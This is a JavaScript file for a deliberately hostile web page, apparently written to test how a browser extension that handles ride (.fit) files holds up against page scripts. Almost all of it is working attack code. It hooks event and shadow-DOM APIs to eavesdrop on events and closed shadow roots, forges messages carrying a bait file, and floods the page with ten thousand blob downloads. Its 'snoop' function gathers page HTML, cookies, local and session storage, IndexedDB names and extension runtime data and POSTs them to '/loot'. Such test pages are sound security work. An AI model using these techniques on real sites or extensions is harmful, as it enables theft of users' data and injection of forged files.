// A hostile page, written without knowledge of the extension.

const bait = Uint8Array.from(atob(JSON.parse(document.getElementById('bait').textContent)), c => c.charCodeAt(0));
const heard = [];
const roots = [];
const names = new Set(['message']);
const { addEventListener: listen, dispatchEvent: dispatch } = EventTarget.prototype;
const { attachShadow } = Element.prototype;

// Scripts that come later are overheard: the events that they listen for and send, and their closed shadow roots.
EventTarget.prototype.addEventListener = function (name, ...rest) {
  overhear(name);
  return listen.call(this, name, ...rest);
};
EventTarget.prototype.dispatchEvent = function (event) {
  overhear(event.type);
  return dispatch.call(this, event);
};
Element.prototype.attachShadow = function (options) {
  const root = attachShadow.call(this, options);
  roots.push(root);
  return root;
};
listen.call(window, 'message', event => heard.push({ name: 'message', data: event.data }), true);

const attacks = { listen: () => heard.length, forge, flood, snoop };
for (const [id, attack] of Object.entries(attacks)) {
  listen.call(document.getElementById(id), 'click', async () => {
    const result = await attack();
    document.querySelector('output').textContent = `${id}: ${result}`;
  });
}
Object.assign(window, { attacks, heard });

function overhear(name) {
  if (names.has(name) || typeof name !== 'string') return;
  names.add(name);
  listen.call(window, name, event => heard.push({ name, data: event.detail }), true);
  listen.call(document, name, event => heard.push({ name, data: event.detail }), true);
}

/** Repeats what was heard, with the bait in every place that could hold a file, and adds a few guesses. */
function forge() {
  const base64 = btoa(String.fromCharCode(...bait));
  const guesses = ['capture', 'download', 'file', 'recording', 'upload', 'add'].map(type => ({
    name: 'message',
    data: { type },
  }));
  const said = [...heard, ...guesses];
  for (const { name, data } of said) {
    for (const filling of [base64, bait, bait.buffer, new Blob([bait]), new File([bait], 'ride.fit')]) {
      const lie = {
        ...(typeof data === 'object' ? data : {}),
        bytes: filling,
        base64: filling,
        data: filling,
        file: filling,
        blob: filling,
      };
      if (name === 'message') window.postMessage(lie, '*');
      for (const target of [window, document]) dispatch.call(target, new CustomEvent(name, { detail: lie }));
    }
  }
  return said.length;
}

/** Ten thousand blobs, each of which an extension might store, each with a click that does nothing. */
function flood(count = 10_000) {
  for (let n = 0; n < count; n++) {
    const blob = new Blob([bait, new Uint8Array(65_536).fill(n)]);
    const link = document.createElement('a');
    link.href = URL.createObjectURL(blob);
    link.download = `ride-${n}.fit`;
    listen.call(link, 'click', event => event.preventDefault());
    link.click();
    URL.revokeObjectURL(link.href);
  }
  return count;
}

/** Sends home everything that a page can read. */
async function snoop() {
  const clean = document.body.appendChild(document.createElement('iframe'));
  const usual = new Set(Object.getOwnPropertyNames(clean.contentWindow));
  clean.remove();
  const globals = Object.getOwnPropertyNames(window).filter(name => !usual.has(name) && name !== 'heard');
  const loot = {
    html: document.documentElement.outerHTML,
    shadows: roots.map(root => root.innerHTML),
    globals: Object.fromEntries(globals.map(name => [name, told(window[name])])),
    hooks: [fetch, XMLHttpRequest.prototype.open, URL.createObjectURL].map(String),
    storage: [
      { ...localStorage },
      { ...sessionStorage },
      document.cookie,
      (await indexedDB.databases()).map(({ name }) => name),
    ],
    resources: performance.getEntriesByType('resource').map(({ name }) => name),
    runtime: told(globalThis.chrome?.runtime ?? globalThis.browser?.runtime),
    heard: heard.map(({ name, data }) => [name, told(data)]),
  };
  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
  return Object.keys(loot).length;
}

function told(value) {
  try {
    return JSON.parse(JSON.stringify(value) ?? 'null') ?? String(value);
  } catch {
    return String(value);
  }
}
